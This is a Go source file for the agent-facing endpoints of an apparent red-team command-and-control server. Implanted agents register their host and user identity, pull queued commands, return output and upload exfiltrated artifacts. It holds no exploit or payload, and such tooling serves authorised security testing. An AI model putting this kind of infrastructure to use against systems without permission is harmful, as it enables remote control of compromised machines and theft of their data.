// ABOUTME: Relay-facing agent endpoints: check-in, task fetch, result posting, file upload.
// ABOUTME: Routes live under /relay-int and trust the relay as the network boundary.

package server

import (
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"

	"github.com/redwing-sec/talon/internal/tasking"
)

// decodeJSONBody decodes a JSON request body. Unknown fields are tolerated
// so agents of different builds can send extra fields.
func decodeJSONBody(r *http.Request, v any) error {
	defer r.Body.Close()
	return json.NewDecoder(r.Body).Decode(v)
}

// maxUploadBytes caps a single agent upload. Large exfil artifacts should be
// chunked by the agent side.
const maxUploadBytes = 64 << 20

// helloRequest is the agent check-in body. All identity fields are optional;
// empty values never overwrite previously reported identity.
type helloRequest struct {
	Hostname    string `json:"hostname"`
	Username    string `json:"username"`
	ProcessName string `json:"processName"`
	ProcessID   int    `json:"processId"`
}

// handleHello registers or updates a session. The agent may suggest its
// session id via the X-Session-ID header; the response carries the
// authoritative id the agent must use from then on.
func (s *Server) handleHello(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		s.writeJSONError(w, http.StatusMethodNotAllowed, "method not allowed")
		return
	}

	var req helloRequest
	if err := decodeJSONBody(r, &req); err != nil {
		s.writeJSONError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	res := s.engine.Register(r.Header.Get("X-Session-ID"), remoteHost(r), tasking.Identity{
		Hostname:    req.Hostname,
		Username:    req.Username,
		ProcessName: req.ProcessName,
		ProcessID:   req.ProcessID,
	})

	s.writeJSON(w, http.StatusOK, map[string]string{"sessionId": res.Session.ID()})
}

// handleAgentRoutes dispatches /relay-int/api/agent/{id}/... subroutes.
func (s *Server) handleAgentRoutes(w http.ResponseWriter, r *http.Request) {
	rest := strings.TrimPrefix(r.URL.Path, relayPrefix+"/api/agent/")
	parts := strings.SplitN(rest, "/", 2)
	if len(parts) != 2 || parts[0] == "" {
		s.writeJSONError(w, http.StatusNotFound, "not found")
		return
	}
	sessionID, action := parts[0], strings.TrimSuffix(parts[1], "/")

	switch {
	case action == "tasks" && r.Method == http.MethodGet:
		s.handleNextTask(w, r, sessionID)
	case action == "results" && r.Method == http.MethodPost:
		s.handleResult(w, r, sessionID)
	case action == "upload" && r.Method == http.MethodPost:
		s.handleUpload(w, r, sessionID)
	default:
		s.writeJSONError(w, http.StatusNotFound, "not found")
	}
}

// handleNextTask pops the next pending command for the session. 204 when the
// queue is empty, 404 when the session is unknown.
func (s *Server) handleNextTask(w http.ResponseWriter, r *http.Request, sessionID string) {
	cmd, ok := s.engine.Next(sessionID)
	if !ok {
		s.writeJSONError(w, http.StatusNotFound, "unknown session")
		return
	}
	if cmd == nil {
		w.WriteHeader(http.StatusNoContent)
		return
	}
	s.writeJSON(w, http.StatusOK, map[string]string{
		"commandId": cmd.ID,
		"text":      cmd.Text,
	})
}

// handleResult records a command's output for the session.
func (s *Server) handleResult(w http.ResponseWriter, r *http.Request, sessionID string) {
	if !s.engine.SessionExists(sessionID) {
		s.writeJSONError(w, http.StatusNotFound, "unknown session")
		return
	}

	var res tasking.Result
	if err := decodeJSONBody(r, &res); err != nil {
		s.writeJSONError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	s.engine.RecordResult(sessionID, res)
	s.writeJSON(w, http.StatusOK, map[string]string{"status": "recorded"})
}

// handleUpload stores an agent-pushed artifact under the uploads directory.
// The filename is reduced to its base component and vetted before any disk
// path is formed.
func (s *Server) handleUpload(w http.ResponseWriter, r *http.Request, sessionID string) {
	if !s.engine.SessionExists(sessionID) {
		s.writeJSONError(w, http.StatusForbidden, "unknown session")
		return
	}

	name, ok := sanitizeFilename(r.URL.Query().Get("filename"))
	if !ok {
		s.writeJSONError(w, http.StatusBadRequest, "invalid filename")
		return
	}

	if err := os.MkdirAll(s.cfg.Uploads.Dir, 0o755); err != nil {
		s.logger.Error("failed to create uploads directory", "error", err)
		s.writeJSONError(w, http.StatusInternalServerError, "storage unavailable")
		return
	}

	dst := filepath.Join(s.cfg.Uploads.Dir, name)
	f, err := os.Create(dst)
	if err != nil {
		s.logger.Error("failed to create upload file", "path", dst, "error", err)
		s.writeJSONError(w, http.StatusInternalServerError, "storage unavailable")
		return
	}
	defer f.Close()

	n, err := io.Copy(f, io.LimitReader(r.Body, maxUploadBytes))
	if err != nil {
		s.logger.Error("upload write failed", "path", dst, "error", err)
		s.writeJSONError(w, http.StatusInternalServerError, "write failed")
		return
	}

	s.engine.Touch(sessionID)
	s.logger.Info("artifact uploaded", "session_id", sessionID, "filename", name, "bytes", n)
	s.writeJSON(w, http.StatusOK, map[string]any{"filename": name, "bytes": n})
}

// sanitizeFilename reduces a client-supplied name to a safe base filename.
// Rejects empty names, dot names, hidden files, path separators, reserved
// characters, and control characters.
func sanitizeFilename(raw string) (string, bool) {
	name := filepath.Base(strings.TrimSpace(raw))
	if name == "" || name == "." || name == ".." {
		return "", false
	}
	if strings.HasPrefix(name, ".") {
		return "", false
	}
	for _, r := range name {
		if r < 0x20 || strings.ContainsRune(`<>:"/\|?*`, r) {
			return "", false
		}
	}
	return name, true
}

// remoteHost extracts the client address, honoring X-Forwarded-For from the
// relay when present.
func remoteHost(r *http.Request) string {
	if fwd := r.Header.Get("X-Forwarded-For"); fwd != "" {
		// first hop is the original client
		if idx := strings.IndexByte(fwd, ','); idx >= 0 {
			return strings.TrimSpace(fwd[:idx])
		}
		return strings.TrimSpace(fwd)
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}
